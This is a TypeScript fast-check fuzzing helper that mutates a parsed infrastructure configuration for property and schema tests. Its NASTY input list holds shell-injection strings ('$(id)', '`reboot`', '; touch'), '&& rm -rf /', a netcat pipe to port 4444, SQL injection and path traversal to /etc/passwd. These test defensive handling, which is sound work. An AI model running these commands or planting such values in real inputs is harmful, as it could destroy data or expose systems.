import * as fc from "fast-check";

/*
 * Random mutations of an estate document (as parsed data): values deleted, replaced by junk or by
 * values that are valid elsewhere, keys inserted, list entries duplicated, leaves swapped, strings
 * edited. The property test and the JSON Schema's differential test both draw from them.
 */

/** Values people paste, and values that break parsers, shells and templates. */
const NASTY = [
  "esx-a1; touch /tmp/ksv-x",
  "$(id)",
  "`reboot`",
  "esx-a1\nreboot",
  "${HOME}",
  "%{ if true }x%{ endif }",
  "$${x}",
  "&& rm -rf /",
  "| nc 10.0.0.1 4444",
  "' OR 1=1 --",
  "..\\..\\windows",
  "../../etc/passwd",
  "\u0000",
  "\u202etxt.ovf",
  "😀",
  "Zürich (DC) #2 @ + 1",
  "İstanbul",
  "\uFEFF",
  " ",
  "",
  "~",
  "null",
  "yes",
  "0x1F",
  ".nan",
  "*alias",
  "<<",
  "a".repeat(5000),
  "https://u:p@repo.example.local/a.ovf",
  "https://repo.example.local/a.ovf?x=1&y=2;z",
  "http://[::1]/a.ovf",
  "10.0.0.300",
  "0.0.0.0",
  "255.255.255.255",
  "esx-a1.dc1-nsxv.local.",
  "ESX-A1.DC1-NSXV.LOCAL",
];

/** Values the schema accepts somewhere: mutations that stay valid exercise the synth. */
const PLAUSIBLE = [
  "nsx-v",
  "nsx-t",
  "standard",
  "monitoring",
  "ignore",
  "terminate",
  "terminate-and-block",
  "block",
  "adware",
  "other",
  "advertising",
  "legitimate-software",
  "none",
  "any",
  "default",
  "do-not-scan",
  "do-not-block",
  "1:2:3",
  4094,
  4095,
  "local",
  "pg",
  "stack",
  "estate",
  "terraform_data",
  "null_resource",
  "dc3-nsxv",
  "esx-z9.example.local",
  "10.1.2.3",
  "0.0.0.0/0",
  "::/0",
  "192.168.0.0/16",
  "https://repo.example.local/ksv/other.xml",
  "KSV-WEB-KSN",
  "KSV-GROUP-UNUSED",
  "KSV-NSXT-STANDARD-ONLY",
  "Global KSN is on (SEC-1)",
  1,
  60,
  10080,
  65535,
  true,
  false,
];

const junk: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 8, arbitrary: fc.constantFrom(...PLAUSIBLE) },
  fc.string(),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -1, -0, 2 ** 53 + 1, 1e308, NaN, Infinity, -Infinity),
  fc.constantFrom(null, true, false, [], {}),
  fc.array(fc.constantFrom(...NASTY, ...PLAUSIBLE), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.constantFrom(...NASTY, ...PLAUSIBLE), {
    maxKeys: 3,
  }),
);

const junkKey = fc.oneof(
  fc.constantFrom("password", "hosts", "name", "__proto__", "constructor", "<<", "", " ", "$(id)"),
  fc.string({ maxLength: 12 }),
);

export type Op =
  | { kind: "delete"; at: number }
  | { kind: "set"; at: number; value: unknown }
  | { kind: "insert"; at: number; key: string; value: unknown }
  | { kind: "duplicate"; at: number; index: number }
  | { kind: "swap"; at: number; with: number }
  | { kind: "edit"; at: number; prefix: string; suffix: string };

const at = fc.nat();
export const op: fc.Arbitrary<Op> = fc.oneof(
  fc.record({ kind: fc.constant("delete" as const), at }),
  { weight: 3, arbitrary: fc.record({ kind: fc.constant("set" as const), at, value: junk }) },
  fc.record({ kind: fc.constant("insert" as const), at, key: junkKey, value: junk }),
  fc.record({ kind: fc.constant("duplicate" as const), at, index: fc.nat() }),
  // Values moved within the document: reordered lists, names and hosts elsewhere, often valid.
  { weight: 2, arbitrary: fc.record({ kind: fc.constant("swap" as const), at, with: fc.nat() }) },
  fc.record({
    kind: fc.constant("edit" as const),
    at,
    prefix: fc.constantFrom("", " ", "x", "-", "$(", "😀", "\n"),
    suffix: fc.constantFrom("", " ", "x", ".", ";id", "\n", "/33", "-"),
  }),
);

type Container = Record<string, unknown> | unknown[];
type Slot = { parent: Container; key: string | number };

function slots(root: unknown): Slot[] {
  const out: Slot[] = [];
  const stack: unknown[] = [root];
  while (stack.length > 0) {
    const node = stack.pop();
    if (Array.isArray(node)) {
      node.forEach((child, index) => {
        out.push({ parent: node, key: index });
        stack.push(child);
      });
    } else if (node && typeof node === "object") {
      for (const [key, child] of Object.entries(node)) {
        out.push({ parent: node as Record<string, unknown>, key });
        stack.push(child);
      }
    }
  }
  return out;
}

function containers(root: unknown): Container[] {
  return [
    root as Container,
    ...slots(root)
      .map((s) => get(s))
      .filter(isContainer),
  ];
}

const isContainer = (v: unknown): v is Container => typeof v === "object" && v !== null;
const get = (s: Slot) => (s.parent as Record<string | number, unknown>)[s.key];
const put = (s: Slot, value: unknown) => {
  (s.parent as Record<string | number, unknown>)[s.key] = value;
};

/** Applies one mutation to `doc` in place. */
export function apply(doc: unknown, mutation: Op): void {
  const all = slots(doc);
  if (mutation.kind === "insert") {
    const targets = containers(doc);
    const target = targets[mutation.at % targets.length];
    if (Array.isArray(target)) target.push(mutation.value);
    else
      Object.defineProperty(target, mutation.key, {
        value: mutation.value,
        enumerable: true,
        configurable: true,
        writable: true,
      });
    return;
  }
  if (all.length === 0) return;
  const slot = all[mutation.at % all.length];
  switch (mutation.kind) {
    case "delete":
      if (Array.isArray(slot.parent)) slot.parent.splice(slot.key as number, 1);
      else delete slot.parent[slot.key as string];
      return;
    case "set":
      put(slot, structuredClone(mutation.value));
      return;
    case "duplicate": {
      const lists = all
        .map(get)
        .filter(Array.isArray)
        .filter((l) => l.length > 0);
      if (lists.length === 0) return;
      const list = lists[mutation.at % lists.length];
      list.push(structuredClone(list[mutation.index % list.length]));
      return;
    }
    case "swap": {
      // Leaves only: swapping a mapping with one of its own entries would make a cycle.
      const other = all[mutation.with % all.length];
      const value = get(slot);
      if (isContainer(value) || isContainer(get(other))) return;
      put(slot, get(other));
      put(other, value);
      return;
    }
    case "edit": {
      const value = get(slot);
      if (typeof value === "string") put(slot, `${mutation.prefix}${value}${mutation.suffix}`);
      return;
    }
  }
}
